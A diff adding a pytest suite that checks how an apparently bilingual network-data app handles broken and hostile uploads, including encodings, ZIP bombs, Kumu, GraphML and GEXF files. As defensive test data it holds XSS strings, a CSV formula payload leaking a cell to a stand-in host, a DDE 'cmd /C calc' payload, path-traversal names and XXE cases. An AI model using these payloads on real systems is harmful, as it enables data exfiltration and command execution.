@@ -1,0 +1,597 @@
+"""Tests for network.upload and network.template: bring your own data.
+
+The corpus in tests/fixtures/hostile/ (made by make_hostile.py there) holds broken and
+hostile uploads, one folder per case with the files as a user would upload them. Each
+case must give its own message, at its own place, and never an exception. Big cases (a
+50 MB file, ZIP bombs, 50,001 rows) are made here, in a temporary folder.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import zipfile
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from network import i18n
+from network.schema import BUNDLED_DATA, TABLE_ORDER, tables
+from network.template import COLUMNS, instructions, readme, template_csv_zip, template_xlsx
+from network.upload import (
+    MB,
+    Limits,
+    UploadResult,
+    load_package,
+    read_upload,
+    sniff,
+)
+
+HOSTILE = Path(__file__).parent / "fixtures" / "hostile"
+MINIMAL = Path(__file__).parent / "fixtures" / "minimal"
+
+
+def upload_case(name: str, **kwargs) -> UploadResult:
+    folder = HOSTILE / name
+    return read_upload([(p.name, p.read_bytes()) for p in sorted(folder.iterdir())], **kwargs)
+
+
+def problems(result: UploadResult) -> list[tuple]:
+    return [(p.severity, p.key, p.table, p.row, p.column) for p in result.report.problems]
+
+
+def minimal_files() -> list[tuple[str, bytes]]:
+    return [(p.name, p.read_bytes()) for p in sorted(MINIMAL.glob("*.csv"))]
+
+
+def zipped(files: list[tuple[str, bytes]], prefix: str = "") -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in files:
+            archive.writestr(prefix + name, data)
+    return buffer.getvalue()
+
+
+# --- the hostile corpus -------------------------------------------------------------------
+
+E, W = "error", "warning"
+#: case → (loads?, one problem it must report: (severity, key, table, row, column))
+CASES: dict[str, tuple[bool, tuple | None]] = {
+    # wrong encodings
+    "latin1_encoding": (True, (W, "v.decoded_latin1", "actors.csv", None, None)),
+    "utf16_encoding": (False, (E, "upload.utf16", "actors.csv", None, None)),
+    # not what the name says
+    "empty_file": (False, (E, "upload.empty_file", "actors.csv", None, None)),
+    "png_as_csv": (False, (E, "upload.wrong_type", "actors.csv", None, None)),
+    "gzip_as_csv": (False, (E, "upload.wrong_type", "ties.csv", None, None)),
+    "html_page_as_csv": (False, (E, "upload.wrong_type", "actors.csv", None, None)),
+    "pdf_as_xlsx": (False, (E, "upload.wrong_type", "book.xlsx", None, None)),
+    "random_xlsx": (False, (E, "upload.binary", "book.xlsx", None, None)),
+    "junk_xlsx": (False, (E, "upload.not_a_workbook", "book.xlsx", None, None)),
+    "xls_old_format": (False, (E, "upload.save_as_xlsx", "book.xls", None, None)),
+    "ods_workbook": (False, (E, "upload.save_as_xlsx", "book.ods", None, None)),
+    "mixed_files": (False, (E, "upload.mixed_files", "package.zip", None, None)),
+    "wrong_file_name": (False, (E, "upload.unknown_file", "data.csv", None, None)),
+    # workbooks
+    "missing_sheet": (False, (E, "v.missing_table", "book.xlsx › ties", None, None)),
+    "duplicate_ids": (False, (E, "v.duplicate", "book.xlsx › actors", 6, "id")),
+    "unrelated_workbook": (False, (E, "upload.xlsx_no_tables", "book.xlsx", None, None)),
+    "formulas": (True, (W, "upload.formulas_as_values", "book.xlsx", None, None)),
+    "formula_no_value": (True, (W, "upload.formula_no_value", "book.xlsx › actors", 3, "city")),
+    # ZIP archives
+    "unknown_ids": (False, (E, "v.unknown_reference", "ties.csv", 3, "target")),
+    "path_traversal": (False, (E, "upload.zip_unsafe_path", "package.zip", None, None)),
+    "truncated_zip": (False, (E, "upload.zip_corrupt", "package.zip", None, None)),
+    "duplicate_tables_zip": (False, (E, "upload.duplicate_table", "package.zip", None, None)),
+    "zip_no_tables": (False, (E, "upload.zip_no_tables", "package.zip", None, None)),
+    "encrypted_zip": (False, (E, "upload.zip_encrypted", "package.zip", None, None)),
+    "zip_declared_huge": (False, (E, "upload.zip_too_large", "package.zip", None, None)),
+    "zip_lying_sizes": (False, (E, "upload.zip_corrupt", "package.zip", None, None)),
+    "nested_zip": (True, None),
+    # CSV content
+    "bad_years": (False, (E, "v.too_large", "actors.csv", 2, "founded")),
+    "unknown_evidence": (False, (E, "v.unknown_source", "actors.csv", 2, "evidence")),
+    "csv_only_headers": (False, (E, "v.empty_table", "actors.csv", None, None)),
+    "duplicate_csv_files": (False, (E, "upload.duplicate_table", "actors.csv", None, None)),
+    "html_in_names": (True, None),
+    "csv_formula_injection": (True, None),
+    "isolated_actor": (True, (W, "v.isolated_actor", "actors.csv", 6, "id")),
+    "no_discourses": (True, (W, "upload.no_discourses", "discourses.csv", None, None)),
+    # Kumu
+    "kumu_workbook": (True, (W, "upload.ignored_attributes", "kumu.xlsx", None, None)),
+    "kumu_no_connections": (False, (E, "upload.kumu_missing_sheet", "kumu.xlsx › Connections",
+                                    None, None)),
+    "kumu_duplicate_label": (False, (E, "upload.duplicate_node", "kumu.xlsx › Elements", 6,
+                                     "Label")),
+    "kumu_unknown_element": (False, (E, "upload.unknown_node", "kumu.xlsx › Connections", 6,
+                                     "To")),
+    # GraphML and GEXF
+    "graphml_no_node_ids": (False, (E, "upload.graph_node_without_id", "network.graphml", 6,
+                                    "id")),
+    "graphml_unknown_node": (False, (E, "upload.unknown_node", "network.graphml", 7, "target")),
+    "graphml_self_loop": (False, (E, "v.self_loop", "network.graphml", 7, "target")),
+    "broken_xml": (False, (E, "upload.xml_invalid", "network.graphml", None, None)),
+    "xml_entity_bomb": (False, (E, "upload.xml_entities", "network.graphml", None, None)),
+    "xml_external_entity": (False, (E, "upload.xml_entities", "network.gexf", None, None)),
+    "gexf_unknown_attributes": (True, (W, "upload.ignored_attributes", "network.gexf", None,
+                                       None)),
+}
+
+
+def test_the_corpus_is_complete():
+    on_disk = {p.name for p in HOSTILE.iterdir() if p.is_dir() and p.name != "__pycache__"}
+    assert on_disk == set(CASES)
+    assert len(CASES) >= 25
+
+
+@pytest.mark.parametrize("case", sorted(CASES))
+def test_hostile_upload_gives_its_own_message(case):
+    loads, expected = CASES[case]
+    result = upload_case(case)
+    found = problems(result)
+    assert "upload.internal" not in [p[1] for p in found], result.report.render()
+    assert (result.dataset is not None) == loads, result.report.render()
+    if expected is not None:
+        assert expected in found, found
+    if not loads:
+        assert result.content_key == "" and result.package is None
+        assert not result.report.ok
+    for lang in ("en", "es"):
+        text = result.report.render(lang)
+        assert "{" not in text and "Traceback" not in text
+    if result.report.problems:
+        first = result.report.problems[0]
+        assert first.message("en") != first.message("es") or first.key.startswith("v.")
+
+
+def test_every_error_case_has_a_message_of_its_own():
+    """No two refused cases are told the same thing, unless they are the same fault."""
+    keys = [CASES[c][1][1] for c in CASES if not CASES[c][0] and CASES[c][1]]
+    same_fault = {"upload.wrong_type", "upload.save_as_xlsx", "upload.xml_entities",
+                  "upload.unknown_node", "upload.duplicate_table", "upload.zip_corrupt"}
+    repeated = {k for k in keys if keys.count(k) > 1} - same_fault
+    assert not repeated
+
+
+def test_wrong_type_names_what_the_file_is():
+    result = upload_case("png_as_csv", lang="es")
+    problem = next(p for p in result.report.problems if p.key == "upload.wrong_type")
+    assert "PNG" in problem.message("en") and "PNG" in problem.message("es")
+    assert "PDF" in upload_case("pdf_as_xlsx").report.render()
+
+
+def test_bad_years_are_each_reported():
+    found = problems(upload_case("bad_years"))
+    assert (E, "v.too_large", "actors.csv", 2, "founded") in found
+    assert (E, "v.not_integer", "ties.csv", 4, "from_year") in found
+
+
+def test_latin1_is_read_with_its_accents():
+    ds = upload_case("latin1_encoding").dataset
+    assert ds.actors.loc["rae", "name_es"] == "Red de Agricultura Ecológica del Perú"
+
+
+def test_formulas_are_read_as_saved_values_never_evaluated():
+    ds = upload_case("formulas").dataset
+    assert ds.actors.loc["ideas", "name"] == "Centro IDEAS"  # not "2" from =1+1
+    assert ds.actors.loc["idma", "name"] == "IDMA"  # the DDE "formula" never ran
+    assert ds.actors.loc["idma", "founded"] == 1984
+    warning = next(p for p in upload_case("formulas").report.problems
+                   if p.key == "upload.formulas_as_values")
+    assert dict(warning.params)["count"] == 3
+
+
+def test_formula_without_saved_value_is_an_empty_cell_and_a_warning():
+    result = upload_case("formula_no_value")
+    assert result.dataset.actors.loc["ideas", "city"] == ""
+    assert "HYPERLINK" not in result.report.render()
+
+
+@pytest.mark.parametrize("case", ["html_in_names", "csv_formula_injection"])
+def test_markup_and_formulas_in_names_stay_plain_text(case):
+    ds = upload_case(case).dataset
+    names = set(ds.actors["name"]) | set(ds.actors["acronym"]) | set(ds.actors["description"])
+    if case == "html_in_names":
+        assert "<script>alert('rae')</script>" in names
+        assert '<img src=x onerror="alert(1)">Centro <b>IDEAS</b>' in names
+    else:
+        assert '=HYPERLINK("http://example.invalid/?leak="&A1,"RAE")' in names
+        assert "+cmd|' /C calc'!A0" in names
+
+
+def test_external_entities_are_never_resolved():
+    for case in ("xml_external_entity", "xml_entity_bomb"):
+        text = upload_case(case).report.render()
+        assert "root:" not in text and "lollol" not in text
+
+
+def test_path_traversal_writes_nothing(tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    upload_case("path_traversal")
+    assert not any(tmp_path.rglob("*"))
+    assert not Path("/etc/cron.d/evil.csv").exists()
+
+
+def test_duplicate_sheet_row_points_at_the_first_one():
+    problem = next(p for p in upload_case("duplicate_ids").report.problems
+                   if p.key == "v.duplicate")
+    assert dict(problem.params)["other"] == 3
+    assert "book.xlsx › actors" in problem.render("es") and "fila 6" in problem.render("es")
+
+
+# --- made at test time: the big ones ------------------------------------------------------
+
+
+def test_a_50_mb_file_is_refused_before_reading(tmp_path):
+    path = tmp_path / "actors.csv"
+    with path.open("wb") as fh:
+        fh.write(b"id,name\n")
+        fh.write(b"a" * (50 * MB))
+    result = read_upload([(path.name, path.read_bytes())])
+    assert problems(result) == [(E, "upload.too_big", "actors.csv", None, None)]
+    assert "50 MB" in result.report.render() and "20 MB" in result.report.render()
+
+
+def test_many_files_together_over_the_size_limit():
+    files = [(f"{t}.csv", b"x" * (6 * MB)) for t in TABLE_ORDER[:4]]
+    assert problems(read_upload(files))[0][:3] == (E, "upload.too_big", "upload")
+
+
+def test_zip_bomb_is_refused_by_its_ratio(tmp_path):
+    path = tmp_path / "bomb.zip"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        with archive.open("actors.csv", "w") as member:
+            chunk = bytes(MB)
+            for _ in range(40):
+                member.write(chunk)
+    assert path.stat().st_size < 200_000
+    result = read_upload([("bomb.zip", path.read_bytes())])
+    assert problems(result) == [(E, "upload.zip_bomb", "bomb.zip", None, None)]
+    assert "actors.csv" in result.report.render("es")
+
+
+def test_zip_bomb_is_refused_by_its_total_size(tmp_path):
+    path = tmp_path / "bomb.zip"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for i in range(3):
+            with archive.open(f"part{i}/actors.csv", "w") as member:
+                for _ in range(4):
+                    member.write(bytes(MB))
+    limits = Limits(max_unzipped_bytes=10 * MB, max_ratio=10_000)
+    result = read_upload([("bomb.zip", path.read_bytes())], limits)
+    assert problems(result) == [(E, "upload.zip_too_large", "bomb.zip", None, None)]
+
+
+def test_xlsx_bomb_is_refused_before_openpyxl_sees_it(tmp_path):
+    data = template_xlsx("en")
+    with zipfile.ZipFile(io.BytesIO(data)) as zin:
+        items = [(i, zin.read(i.filename)) for i in zin.infolist()]
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zout:
+        for info, content in items:
+            zout.writestr(info, content)
+        zout.writestr("xl/worksheets/sheet99.xml", bytes(30 * MB))
+    result = read_upload([("book.xlsx", buffer.getvalue())])
+    assert problems(result) == [(E, "upload.zip_bomb", "book.xlsx", None, None)]
+
+
+def test_too_many_files_in_a_zip(tmp_path):
+    files = [(f"junk/{i}.txt", b"") for i in range(1001)]
+    result = read_upload([("many.zip", zipped(files))])
+    assert problems(result) == [(E, "upload.zip_too_many_files", "many.zip", None, None)]
+
+
+def test_too_many_rows_in_a_csv(tmp_path):
+    files = dict(minimal_files())
+    header, first = files["actors.csv"].decode().splitlines()[:2]
+    body = "\n".join(first.replace("rae,", f"a{i},", 1) for i in range(50_001))
+    files["actors.csv"] = f"{header}\n{body}\n".encode()
+    result = read_upload(list(files.items()))
+    assert problems(result) == [(E, "upload.too_many_rows", "actors.csv", None, None)]
+    assert "50000" in result.report.render()
+
+
+def test_too_many_rows_in_a_sheet_and_a_graph():
+    result = read_upload([("book.xlsx", _filled_template())], Limits(max_rows=10))
+    assert (E, "upload.too_many_rows", "book.xlsx › sources", None, None) in problems(result)
+    graph = (HOSTILE / "gexf_unknown_attributes" / "network.gexf").read_bytes()
+    result = read_upload([("network.gexf", graph)], Limits(max_rows=1))
+    assert problems(result) == [(E, "upload.too_many_rows", "network.gexf", None, None)]
+
+
+def test_a_field_bigger_than_the_csv_limit_is_unreadable():
+    files = dict(minimal_files())
+    files["sources.csv"] = files["sources.csv"] + b'E9,"' + b"x" * 200_000 + b'",,,,\n'
+    found = problems(read_upload(list(files.items())))
+    assert found[0][:3] == (E, "v.unreadable", "sources.csv")
+
+
+def test_nothing_uploaded_and_too_many_files():
+    assert problems(read_upload([])) == [(E, "upload.no_files", "upload", None, None)]
+    result = read_upload(minimal_files(), Limits(max_files=3))
+    assert problems(result)[0][1] == "upload.too_many_files"
+
+
+def test_file_names_are_shown_without_their_path():
+    result = read_upload([("../../secret/dir\\evil<b>.csv", b"")])
+    assert problems(result) == [(E, "upload.empty_file", "evil<b>.csv", None, None)]
+
+
+@pytest.mark.parametrize("data, kind", [
+    (b"", "empty"), (b"PK\x03\x04rest", "zip"), (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "ole"),
+    (b"%PDF-1.7", "PDF"), (b"\xff\xfei\x00d\x00", "utf16"), (b"i\x00d\x00,\x00n\x00" * 40, "utf16"),
+    (b"\x00\x01\x02\x03junk", "binary"), (b"<?xml version='1.0'?><graphml/>", "xml"),
+    (b"\xef\xbb\xbf<gexf>", "xml"), (b"<!DOCTYPE html><p>", "HTML"), (b"id,name\n", "text"),
+    ("id,nombre\nrae,Ecológica\n".encode("cp1252"), "text"),
+])
+def test_sniff_tells_the_type_from_the_content(data, kind):
+    assert sniff(data) == kind
+
+
+# --- what is accepted, and the content key --------------------------------------------------
+
+
+def _filled_template(lang: str = "en") -> bytes:
+    book = load_workbook(io.BytesIO(template_xlsx(lang)))
+    for name in TABLE_ORDER:
+        with (BUNDLED_DATA / f"{name}.csv").open(encoding="utf-8", newline="") as fh:
+            rows = list(csv.reader(fh))
+        ws = book[name]
+        assert [c.value for c in ws[1]] == rows[0]
+        for row in rows[1:]:
+            ws.append(row)
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+def _bundled_files() -> list[tuple[str, bytes]]:
+    return [(f"{name}.csv", (BUNDLED_DATA / f"{name}.csv").read_bytes()) for name in TABLE_ORDER]
+
+
+def test_the_same_data_gets_the_same_key_whatever_the_format():
+    as_csv = read_upload(_bundled_files())
+    as_csv_reversed = read_upload(list(reversed(_bundled_files())))
+    as_zip = read_upload([("data.zip", zipped(_bundled_files(), "data/"))])
+    as_xlsx = read_upload([("filled.xlsx", _filled_template("es"))])
+    results = (as_csv, as_csv_reversed, as_zip, as_xlsx)
+    for result in results:
+        assert result.report.problems == [], result.report.render()
+    assert len({r.content_key for r in results}) == 1
+    key = as_csv.content_key
+    assert re.fullmatch(r"[0-9a-f]{64}", key)
+    assert as_csv.dataset.key == key[:16]
+    assert (as_csv.kind, as_zip.kind, as_xlsx.kind) == ("csv", "zip", "xlsx")
+
+
+def test_a_different_cell_gives_a_different_key():
+    files = dict(minimal_files())
+    key = read_upload(list(files.items())).content_key
+    files["actors.csv"] = files["actors.csv"].replace(b"Lima", b"Cusco", 1)
+    assert read_upload(list(files.items())).content_key not in ("", key)
+
+
+def test_package_reads_back_to_the_same_data_set():
+    meta = ("datapackage.json", (BUNDLED_DATA / "datapackage.json").read_bytes())
+    first = read_upload([("data.zip", zipped([*_bundled_files(), meta]))])
+    again = load_package(first.package)
+    assert again.report.problems == [] and again.content_key == first.content_key
+    assert again.package == first.package  # byte for byte: safe to compare or hash
+    a, b = first.dataset, again.dataset
+    assert a.actors.equals(b.actors) and a.ties.equals(b.ties)
+    assert b.title.startswith("NGO and SME sustainability networks")
+    assert a.positions == b.positions
+
+
+def test_optional_discourses_load_and_round_trip():
+    result = upload_case("no_discourses")
+    assert len(result.dataset.discourses) == 0
+    again = load_package(result.package)
+    assert again.content_key == result.content_key
+
+
+def test_kumu_workbook_is_mapped_with_every_assumption_listed():
+    result = upload_case("kumu_workbook", lang="es")
+    ds = result.dataset
+    assert result.kind == "kumu"
+    assert list(ds.actors.index) == ["centro_ideas", "rae_peru", "ministerio_de_agricultura",
+                                     "bioferia"]
+    assert ds.actors.loc["ministerio_de_agricultura", ["kind", "sector"]].tolist() == [
+        "government_agency", "state"]
+    assert ds.actors.loc["rae_peru", "name"] == "RAE Perú"
+    assert list(ds.ties["relation"]) == ["member_of", "funds", "coordinates", "collaborates"]
+    assert list(ds.ties["weight"]) == [2.0, 1.0, 1.0, 1.0]
+    assert set(ds.ties["evidence"]) == {"E0"} and list(ds.sources.index) == ["E0"]
+    assert (ds.actors["founded_certainty"] == "inferred").all()
+    assert all("Assumed at upload" in note for note in ds.actors["note"])
+    keys = [key for key, _ in result.assumed]
+    for key in ("upload.assumed.source", "upload.assumed.ids", "upload.assumed.actor_field",
+                "upload.assumed.tie_field", "upload.assumed.tie_years",
+                "upload.assumed.undirected", "upload.assumed.network",
+                "upload.assumed.no_discourses"):
+        assert key in keys, key
+    assert any("Cada fila cita una fuente nueva" in a for a in result.assumptions)
+    english = result.assumptions_in("en")
+    assert any("“national” was used" in a for a in english)
+    assert english != result.assumptions
+
+
+def test_kumu_connections_alone_make_the_actors():
+    book = load_workbook(HOSTILE / "kumu_workbook" / "kumu.xlsx")
+    del book["Elements"]
+    buffer = io.BytesIO()
+    book.save(buffer)
+    result = read_upload([("kumu.xlsx", buffer.getvalue())])
+    assert result.dataset is not None, result.report.render()
+    assert len(result.dataset.actors) == 4
+    assert "upload.assumed.nodes_from_edges" in [k for k, _ in result.assumed]
+
+
+def test_gexf_uses_its_years_labels_and_weights():
+    result = upload_case("gexf_unknown_attributes")
+    ds = result.dataset
+    assert result.kind == "gexf"
+    assert ds.actors["founded"].tolist() == [1978, 1989]
+    assert ds.actors["kind"].tolist() == ["ngo", "ngo_network"]
+    tie = ds.ties.iloc[0]
+    assert (tie["relation"], tie["from_year"], tie["weight"]) == ("founded", 1989, 2.0)
+    warning = next(p for p in result.report.problems if p.key == "upload.ignored_attributes")
+    names = dict(warning.params)["names"]
+    assert "Modularity Class" in names and "mood" in names and "favourite colour" in names
+    assert "size" not in names  # drawing attributes are dropped quietly
+
+
+def test_graphml_from_yed_and_networkx():
+    networkx = pytest.importorskip("networkx")
+    graph = networkx.DiGraph()
+    graph.add_node("Centro IDEAS", kind="ngo", founded=1978, level="national")
+    graph.add_node("RAE", kind="ngo_network", founded=1989)
+    graph.add_node("SENASA", kind="Government agency", level="nacional")
+    graph.add_edge("Centro IDEAS", "RAE", relation="founded", start=1989)
+    graph.add_edge("SENASA", "RAE", relation="asesora a")
+    buffer = io.BytesIO()
+    networkx.write_graphml(graph, buffer)
+    result = read_upload([("net.graphml", buffer.getvalue())])
+    assert result.dataset is not None, result.report.render()
+    ds = result.dataset
+    assert ds.actors.loc["senasa", "kind"] == "government_agency"
+    assert ds.actors.loc["senasa", "level"] == "national"  # matched the Spanish label
+    assert ds.ties["relation"].tolist() == ["founded", "advises"]
+    assert ds.ties["from_year"].tolist() == [1989, 1989]  # the second: when both exist
+    yed = b"""<?xml version="1.0" encoding="UTF-8"?>
+<graphml xmlns="http://graphml.graphdrawing.org/xmlns" xmlns:y="http://www.yworks.com/xml/graphml">
+  <key for="node" id="d6" yfiles.type="nodegraphics"/>
+  <key for="edge" id="d10" yfiles.type="edgegraphics"/>
+  <graph edgedefault="directed" id="G">
+    <node id="n0"><data key="d6"><y:ShapeNode><y:NodeLabel>Centro
+      IDEAS</y:NodeLabel></y:ShapeNode></data></node>
+    <node id="n1"><data key="d6"><y:ShapeNode><y:NodeLabel>RAE</y:NodeLabel>
+      </y:ShapeNode></data></node>
+    <edge id="e0" source="n0" target="n1"><data key="d10"><y:PolyLineEdge/></data></edge>
+  </graph>
+</graphml>"""
+    result = read_upload([("yed.graphml", yed)])
+    assert result.dataset.actors["name"].tolist() == ["Centro IDEAS", "RAE"]
+    assert not result.report.problems
+
+
+def test_problems_in_mapped_files_point_at_the_upload():
+    gexf = (HOSTILE / "gexf_unknown_attributes" / "network.gexf").read_text()
+    gexf = gexf.replace('start="1989"', 'start="1850"')
+    result = read_upload([("network.gexf", gexf.encode())])
+    assert (E, "v.too_small", "network.gexf", 18, "start") in problems(result)  # its line
+
+
+def test_warnings_do_not_block_loading():
+    result = upload_case("isolated_actor")
+    assert result.report.warnings and result.report.ok
+    assert "lonely" in result.dataset.actors.index
+
+
+# --- templates -----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("lang, sheet", [("en", "Instructions"), ("es", "Instrucciones")])
+def test_template_xlsx_has_instructions_and_a_sheet_per_table(lang, sheet):
+    book = load_workbook(io.BytesIO(template_xlsx(lang)))
+    assert book.sheetnames == [sheet, *TABLE_ORDER]
+    for name in TABLE_ORDER:
+        ws = book[name]
+        assert [c.value for c in ws[1]] == list(tables()[name].columns)
+        assert ws.max_row == 1  # no example rows to forget
+        assert all(c.comment is not None for c in ws[1])
+    lists = {dv.formula1 for dv in book["actors"].data_validations.dataValidation}
+    assert '"local,national,latin_american,global"' in lists
+    assert any("ngo_network" in f for f in lists)
+    text = "\n".join(str(c.value) for row in book[sheet].iter_rows() for c in row if c.value)
+    assert "kind" in text and "ngo_network" in text and "1900" in text
+
+
+def test_template_instructions_cover_every_column_in_both_languages():
+    assert {f"{table}.{f.name}" for table, spec in tables().items() for f in spec.fields} == set(
+        COLUMNS)
+    en, es = instructions("en"), instructions("es")
+    assert len(en) == len(es) == 1 + sum(len(spec.fields) for spec in tables().values())
+    assert en[0] != es[0]
+    assert "S0;E2" in readme("en") and "LEAME" not in readme("en")
+
+
+@pytest.mark.parametrize("lang", ["en", "es"])
+def test_filled_template_loads_like_the_bundled_data(lang):
+    result = read_upload([("filled.xlsx", _filled_template(lang))])
+    assert result.report.problems == [], result.report.render()
+    assert result.content_key == read_upload(_bundled_files()).content_key
+
+
+@pytest.mark.parametrize("lang", ["en", "es"])
+def test_empty_templates_say_there_is_nothing_yet(lang):
+    for name, data in (("template.xlsx", template_xlsx(lang)),
+                       ("template.zip", template_csv_zip(lang))):
+        result = read_upload([(name, data)], lang=lang)
+        assert result.dataset is None
+        assert [p.key for p in result.report.errors] == ["upload.only_headers"]
+        assert "sources, networks, actors" in result.report.render(lang)
+
+
+def test_csv_template_filled_in_loads_with_its_title():
+    with zipfile.ZipFile(io.BytesIO(template_csv_zip("es"))) as archive:
+        names = sorted(archive.namelist())
+        files = {n: archive.read(n) for n in names}
+    assert names == sorted(["LEAME.txt", "datapackage.json", *[f"{t}.csv" for t in TABLE_ORDER]])
+    for name in TABLE_ORDER:
+        header = files[f"{name}.csv"].decode("utf-8-sig").strip()
+        assert header == ",".join(tables()[name].columns)
+        files[f"{name}.csv"] = (BUNDLED_DATA / f"{name}.csv").read_bytes()
+    result = read_upload([("mine.zip", zipped(list(files.items())))])
+    assert result.report.problems == [], result.report.render()
+    assert result.dataset.title == "Mi red"
+
+
+def test_every_upload_and_template_string_has_both_languages():
+    for key in i18n.keys():
+        if key.startswith(("upload.", "template.")):
+            en, es = i18n._C[key]
+            assert en.strip() and es.strip() and (en != es or len(en) < 30), key
+            assert set(re.findall(r"{(\w+)}", en)) == set(re.findall(r"{(\w+)}", es)), key
+
+
+@pytest.mark.parametrize("member", ["/etc/actors.csv", "C:\\Windows\\actors.csv",
+                                    "data\\..\\..\\actors.csv", "data/../../actors.csv"])
+def test_every_kind_of_unsafe_member_path_is_refused(member):
+    files = [*minimal_files(), (member, b"id\n")]
+    found = problems(read_upload([("package.zip", zipped(files))]))
+    assert found == [(E, "upload.zip_unsafe_path", "package.zip", None, None)]
+
+
+def test_browser_data_urls_are_decoded_safely():
+    from network.upload import decode_data_url
+
+    assert decode_data_url("data:text/csv;base64,aWQsbmFtZQo=") == b"id,name\n"
+    for bad in (None, "", "data:text/csv;base64,@@@", "data:text/csv,plain", "aWQ="):
+        assert decode_data_url(bad) == b""
+
+
+def test_too_many_columns_is_one_message_not_thousands():
+    files = dict(minimal_files())
+    header = ",".join(f"c{i}" for i in range(5000))
+    files["actors.csv"] = f"{header}\n{','.join('x' * 5000)}\n".encode()
+    assert problems(read_upload(list(files.items()))) == [
+        (E, "upload.too_many_columns", "actors.csv", None, None)]
+
+
+def test_a_long_report_is_cut_with_a_count_of_the_rest():
+    from network.upload import MAX_LISTED
+
+    files = dict(minimal_files())
+    lines = files["actors.csv"].decode().splitlines()
+    bad = lines[1].replace("ngo_network", "castle")
+    body = [bad.replace("rae,", f"r{i},", 1) for i in range(MAX_LISTED + 100)]
+    files["actors.csv"] = "\n".join([lines[0], *lines[1:], *body, ""]).encode()
+    result = read_upload(list(files.items()))
+    report = result.report
+    assert len(report.errors) == MAX_LISTED + 1 and len(report.warnings) == MAX_LISTED
+    last = report.problems[-1]
+    assert (last.severity, last.key) == (E, "upload.more_problems")
+    assert dict(last.params)["count"] == 200  # 100 errors and 100 warnings not listed
